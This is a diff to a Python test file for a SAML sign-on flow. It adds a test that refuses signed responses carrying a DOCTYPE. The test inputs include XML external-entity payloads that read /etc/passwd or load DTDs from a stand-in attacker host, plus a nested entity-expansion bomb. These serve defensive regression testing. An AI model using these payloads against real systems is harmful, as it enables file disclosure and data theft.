@@ -20,7 +20,10 @@ from onelogin.saml2.constants import OneLogin_Saml2_Constants as Saml
 from onelogin.saml2.utils import OneLogin_Saml2_Utils
 
 from musterbook import jobs
+from musterbook.accounts import saml as provider_answers
+from musterbook.accounts.claims import Untrusted
 from musterbook.accounts.models import Account
+from musterbook.directory import agency_sign_on, models
 from tests.accounts.conftest import Springfield
 from tests.accounts.test_entrance import HOME, who
 from tests.accounts.test_sign_on import has, oidc_settings
@@ -230,6 +233,33 @@ def test_a_forged_answer_lets_nobody_in(saml: Springfield, idp: Idp, client: Cli
     assert client.get("/springfield/sign-in").status_code == 200
     assert who(client) == ""
     assert not Account.objects.exists()
+
+
+@pytest.mark.parametrize(
+    "before",
+    [
+        "<!DOCTYPE x>", '<!DOCTYPE x [<!ENTITY y "user2">]>', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
+        '<!DOCTYPE x [<!ENTITY % y SYSTEM "https://evil.example/x.dtd"> %y;]>', '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">',
+        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]>',
+    ],
+)  # fmt: skip
+@pytest.mark.parametrize("declared", ["", '<?xml version="1.0"?>'])
+def test_a_good_answer_with_a_document_type_is_refused_for_that_alone(
+    saml: Springfield, idp: Idp, client: Client, before: str, declared: str
+) -> None:
+    number, start = request_of(client), METADATA.removesuffix("/metadata/")
+    good = base64.b64decode(response(number, idp.signed(assertion(number)))).decode()
+    provider = agency_sign_on.find(models.Agency.objects.get(pk=saml.agency.pk), "county")
+    assert provider_answers.finish(provider, _sent(declared + good), start)[0] == number
+    with pytest.raises(Untrusted) as refused:
+        provider_answers.finish(provider, _sent(declared + before + good), start)
+    assert "DTDForbidden" in str(refused.value) or "DTDForbidden" in repr(refused.value.__cause__)
+    brought(client, _sent(declared + before + good))
+    assert who(client) == "" and not Account.objects.exists()
+
+
+def _sent(told: str) -> str:
+    return base64.b64encode(told.encode()).decode()
 
 
 def test_an_answer_is_used_once(saml: Springfield, idp: Idp, client: Client) -> None:
